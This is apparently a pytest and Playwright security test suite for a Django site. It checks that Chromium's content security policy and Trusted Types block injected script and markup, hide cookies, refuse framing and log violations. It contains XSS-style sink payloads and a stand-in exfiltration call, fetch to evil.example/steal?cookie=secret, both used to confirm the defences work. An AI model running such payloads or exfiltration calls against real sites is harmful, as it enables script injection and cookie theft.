"""What a real Chromium lets pages of this site do, and what it reports when one tries more."""

import datetime
import ipaddress
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from playwright.sync_api import Browser, BrowserContext, BrowserType, ConsoleMessage, Page, expect

from accounts.models import User
from config.browser_policy import POWERS
from tests.people import PASSWORD
from tests.processes import HOST, PYTHON, Process, accepts, free_port
from tests.security.accounts import make_account
from tests.security.canary import aside
from tests.security.cast import make_secret_operation
from tests.security.stack import SecurityStack

MINUTE_AND_A_HALF = 90
VIOLATION = "liveops.audit: csp violation "
EVERYWHERE = [
    ("eval('1')", "EvalError"),
    ("new Function('1')()", "EvalError"),
    ("document.createElement('script').src = '/static/site.js'", "TypeError"),
    ("document.createElement('script').text = 'window.ran = 1'", "TypeError"),
    ("document.createElement('iframe').srcdoc = '<script>window.ran = 1</script>'", "TypeError"),
    ("document.body.setAttribute('onclick', 'window.ran = 1')", "TypeError"),
    ("document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'", "TypeError"),
    ("document.write('<script>window.ran = 1</script>')", "TypeError"),
    ("new DOMParser().parseFromString('<script></script>', 'text/html')", "TypeError"),
    ("trustedTypes.createPolicy('mine', {createHTML: (html) => html})", "TypeError"),
    ("trustedTypes.createPolicy('liveops', {createHTML: (html) => html})", "TypeError"),
]
# What the admin's own libraries do all the time.
HARMLESS = "document.createElement('p').innerHTML = '<b title=\"a\">x</b>'"


@pytest.fixture
def root(stack: SecurityStack) -> User:
    return aside(lambda: make_account(staff=True, superuser=True))


@pytest.fixture
def complaints(page: Page) -> list[str]:
    found: list[str] = []

    def console(message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"}:
            found.append(f"{page.url}: {message.text}")

    page.on("console", console)
    page.on("pageerror", lambda error: found.append(f"{page.url}: {error}"))
    return found


def sign_in(page: Page, site: str, user: User) -> None:
    page.goto(f"{site}/accounts/login/?next=/")
    page.get_by_label("Username").fill(user.username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{site}/")


@pytest.fixture
def site(stack: SecurityStack, page: Page, root: User, complaints: list[str]) -> str:
    """The address of the site, where `page` is signed in."""
    sign_in(page, stack.base_url, root)
    return stack.base_url


def reports(stack: SecurityStack) -> list[str]:
    return [line for line in stack.logs()["web"].splitlines() if VIOLATION in line]


def outcome(page: Page, code: str) -> str:
    """The name of what `code` raises, or "nothing"."""
    # Not at once, for what the debugger runs at once may evaluate text.
    name = page.evaluate(
        "async () => { globalThis.ran = 0; await new Promise((done) => setTimeout(done, 10)); "
        f"try {{ {code}; return 'nothing' }} catch (error) {{ return error.name }} }}"
    )
    page.wait_for_timeout(50)
    assert page.evaluate("globalThis.ran") == 0
    return str(name)


@pytest.mark.parametrize("path", ["/", "/operations/", "live", "/accounts/password_change/"])
def test_text_becomes_neither_script_nor_markup(
    stack: SecurityStack, page: Page, site: str, root: User, path: str
) -> None:
    if path == "live":
        path = f"/operations/{aside(lambda: make_secret_operation(root))[0].pk}/"
    page.goto(f"{site}{path}", wait_until="load")
    assert outcome(page, HARMLESS) == "TypeError"
    assert dict(EVERYWHERE[:-1]) == {code: outcome(page, code) for code, _ in EVERYWHERE[:-1]}


def test_no_second_policy_takes_the_name_of_ours(
    stack: SecurityStack, page: Page, site: str
) -> None:
    page.goto(f"{site}/operations/", wait_until="networkidle")
    code, name = EVERYWHERE[-1]
    assert outcome(page, code) == name


@pytest.mark.parametrize("path", ["/admin/", "/admin/accounts/user/", "/admin/auth/group/add/"])
def test_the_admin_makes_markup_but_no_script(
    stack: SecurityStack, page: Page, site: str, path: str
) -> None:
    page.goto(f"{site}{path}", wait_until="networkidle")
    assert outcome(page, HARMLESS) == "nothing"
    assert dict(EVERYWHERE) == {code: outcome(page, code) for code, _ in EVERYWHERE}
    for markup in ("<a href=javascript:1>", "<iframe>", "<svg>", "<form action=data:x>", "<base>"):
        code = f"document.createElement('p').innerHTML = '{markup}'"
        assert outcome(page, code) == "TypeError", markup


def test_the_admin_works_without_a_single_report(
    stack: SecurityStack, page: Page, site: str, root: User, complaints: list[str]
) -> None:
    """Lists, filters, search, actions, forms with their widgets, pop-ups, history, deletion."""
    before = len(reports(stack))
    operation = aside(lambda: make_secret_operation(root))[0]
    page.goto(f"{site}/admin/liveops/liveoperation/", wait_until="networkidle")
    page.locator("#changelist-filter a", has_text="Succeeded").first.click()
    page.wait_for_url("**/?*state*")
    page.locator("#action-toggle").check()
    expect(page.locator(".action-counter")).to_contain_text("selected")
    page.locator("select[name=action]").select_option(label="Retry")
    page.locator("button[name=index]").click()
    expect(page.locator(".messagelist li")).to_be_visible()
    page.goto(f"{site}/admin/liveops/liveoperation/{operation.pk}/change/")
    page.goto(f"{site}/admin/accounts/user/?q=person", wait_until="networkidle")
    page.goto(f"{site}/admin/accounts/user/{root.pk}/change/", wait_until="networkidle")
    page.locator("#id_user_permissions_from option").first.dblclick()
    expect(page.locator("#id_user_permissions_to option")).to_have_count(1)
    page.locator("#calendarlink0").click()
    page.locator("#calendarin0 td a").first.click()
    with page.expect_popup() as opened:
        page.locator("#add_id_groups").click()
    popup = opened.value
    popup.get_by_label("Name").fill("Readers")
    popup.get_by_role("button", name="Save").click()
    expect(page.locator("#id_groups_to option", has_text="Readers")).to_have_count(1)
    page.get_by_role("button", name="Save and continue editing").click()
    expect(page.locator(".messagelist .success")).to_be_visible()
    page.get_by_role("link", name="History").click()
    page.goto(f"{site}/admin/accounts/user/{root.pk}/delete/", wait_until="networkidle")
    page.goto(f"{site}/admin/password_change/", wait_until="networkidle")
    assert complaints == []
    assert len(reports(stack)) == before


def test_what_chromium_refuses_is_in_the_log(stack: SecurityStack, page: Page, site: str) -> None:
    expected = {
        "directive=connect-src blocked=https://evil.example path=/operations/",
        "directive=style-src-attr blocked=inline path=/operations/",
        "directive=require-trusted-types-for blocked=trusted-types-sink path=/operations/",
    }
    written: set[str] = set()
    # An address has so many lines a minute, which what came before may have used up. Of what it has
    # reported, a browser says nothing more until the page is loaded again.
    end = time.monotonic() + MINUTE_AND_A_HALF
    while not expected <= written and time.monotonic() < end:
        page.goto(f"{site}/operations/?state=QUEUED", wait_until="networkidle")
        page.evaluate("fetch('https://evil.example/steal?cookie=secret').catch(() => 0)")
        page.evaluate("document.body.setAttribute('style', 'color: red')")
        outcome(page, HARMLESS)
        page.wait_for_timeout(3_000)
        written = {line.partition("address=127.0.0.1 ")[2] for line in reports(stack)}
    assert expected <= written
    assert not [line for line in reports(stack) if "secret" in line or "QUEUED" in line]


def test_no_page_has_a_power(stack: SecurityStack, page: Page, site: str) -> None:
    allowed = page.evaluate("document.featurePolicy.allowedFeatures()")
    assert set(allowed).isdisjoint(POWERS)
    assert set(POWERS) <= set(page.evaluate("document.featurePolicy.features()"))


def test_scripts_see_no_cookie(stack: SecurityStack, page: Page, site: str) -> None:
    assert {cookie["name"] for cookie in page.context.cookies()} == {"sessionid", "csrftoken"}
    assert page.evaluate("document.cookie") == ""


@pytest.mark.parametrize(
    "path", ["/accounts/login/", "/operations/", "/admin/", "/static/site.css"]
)
def test_no_other_page_frames_ours(stack: SecurityStack, page: Page, site: str, path: str) -> None:
    other = stack.watchful_url.replace(HOST, "localhost")
    page.route(
        f"{other}/frame",
        lambda route: route.fulfill(
            body=f"<iframe src='{site}{path}'></iframe>", content_type="text/html"
        ),
    )
    page.goto(f"{other}/frame", wait_until="networkidle")
    assert page.frames[1].url == "chrome-error://chromewebdata/"


@pytest.fixture
def certificate(tmp_path: Path) -> tuple[Path, Path]:
    """Files with a key, and a certificate that nobody but this test believes."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, HOST)])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(HOST))]), False
        )
        .sign(key, hashes.SHA256())
    )
    files = tmp_path / "key.pem", tmp_path / "certificate.pem"
    files[0].write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    files[1].write_bytes(made.public_bytes(serialization.Encoding.PEM))
    return files


@pytest.fixture
def secure(
    stack: SecurityStack, certificate: tuple[Path, Path], tmp_path: Path
) -> Iterator[Process]:
    """The site over https, as production has it."""
    port, (key, chain) = free_port(), certificate
    endpoint = f"ssl:{port}:interface={HOST}:privateKey={key}:certKey={chain}"
    command = [PYTHON, "-m", "daphne", "-e", endpoint, "config.asgi:application"]
    env = {**stack.env, "HTTPS": "1", "SITE_URL": f"https://{HOST}:{port}"}
    server = Process("secure", command, env, tmp_path)
    server.start()
    try:
        server.wait_for(lambda: accepts(port), "accepts connections")
        yield server
    finally:
        server.stop()


@pytest.fixture
def trusting(
    browser_type: BrowserType, browser_type_launch_args: dict[str, Any]
) -> Iterator[BrowserContext]:
    """A browser that believes every certificate, for its reports too."""
    arguments = [*browser_type_launch_args.get("args", []), "--ignore-certificate-errors"]
    browser: Browser = browser_type.launch(**{**browser_type_launch_args, "args": arguments})
    try:
        yield browser.new_context()
    finally:
        browser.close()


def test_over_https_pages_are_live_and_reports_arrive(
    stack: SecurityStack, secure: Process, trusting: BrowserContext, root: User
) -> None:
    """Cookies of this host alone, the websocket, and `report-to` in place of `report-uri`."""
    site, page = secure.env["SITE_URL"], trusting.new_page()
    sign_in(page, site, root)
    names = {cookie["name"] for cookie in trusting.cookies()}
    assert names == {"__Host-sessionid", "__Host-csrftoken"}
    page.goto(f"{site}/start/kinds.greeting/")
    page.locator("main form button[type=submit]").click()
    expect(page.locator("live-operation[state=SUCCEEDED][freshness=live]")).to_be_visible()
    page.evaluate("document.body.setAttribute('style', 'color: red')")
    secure.wait_for(
        lambda: f"{VIOLATION}address=127.0.0.1 directive=style-src-attr" in secure.log_tail(200),
        "the report is in the log",
    )
